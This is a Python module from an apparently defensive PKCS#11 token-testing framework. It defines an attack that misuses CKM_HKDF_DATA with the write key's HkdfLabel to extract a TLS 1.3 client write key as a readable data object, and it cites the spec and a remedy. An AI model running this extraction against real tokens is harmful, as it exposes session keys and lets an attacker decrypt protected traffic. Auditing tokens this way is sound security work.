"""hkdf-data: CKM_HKDF_DATA expands a traffic secret under the label of its write key, into a data object to be read."""

from collections.abc import Iterable, Sequence
from functools import partial

from keyfence.cryptoki import Mechanism
from keyfence.cryptoki.constants import CKM
from keyfence.cryptoki.params import Hkdf
from keyfence.cryptoki.values import Template

from .base import Attack, Bench, Technique
from .oracle import OracleAttack, Way, data_templates, read_derived, readable_templates
from .victim import Kind, Victim


class HkdfData(Technique):
    id = "hkdf-data"
    title = "Keys as HKDF data"
    summary = (
        "CKM_HKDF_DATA gives any expansion of a secret as a data object; TLS 1.3 needs it for its IVs. The caller names the "
        "info: with the HkdfLabel of the write key in place of the IV's, the write key comes back."
    )
    section = "PKCS#11 3.2 §6.62.4 (CKM_HKDF_DATA: tokens MAY restrict pInfo)"
    references = ("RFC 8446 §7.1 and §7.3", "RFC 5869 §2.3")
    remedy = 'Allow CKM_HKDF_DATA for the labels whose output is public alone: an HkdfLabel "iv" of the nonce\'s length.'
    kinds = frozenset({Kind.TLS13, Kind.SEPARATED})

    def attacks(self, victim: Victim) -> Iterable[Attack]:
        return [HkdfDataAttack(victim, int(CKM.HKDF_DATA))]


class HkdfDataAttack(OracleAttack):
    """One call: HKDF-Expand under the write key's HkdfLabel."""

    key = "client write key"
    whole = True

    @property
    def foreign(self) -> bool:
        return self.victim.kind is Kind.SEPARATED

    def ways(self, bench: Bench) -> Sequence[Way]:
        templates = [*data_templates(self.target.length), *readable_templates(self.target.length)]
        return [
            Way(
                f'C_DeriveKey({self.name}, bExpand, pInfo=HkdfLabel({self.target.length}, "tls13 key", ""), {text})',
                partial(self._read, bench, template),
            )
            for text, template in templates
        ]

    def _read(self, bench: Bench, template: Template, secret: int, info: bytes) -> bytes:
        parameters = Hkdf(extract=False, expand=True, prf_hash=int(self.target.prf_hash.ckm), info=info)
        return read_derived(bench, Mechanism(self.mechanism, parameters), secret, template)
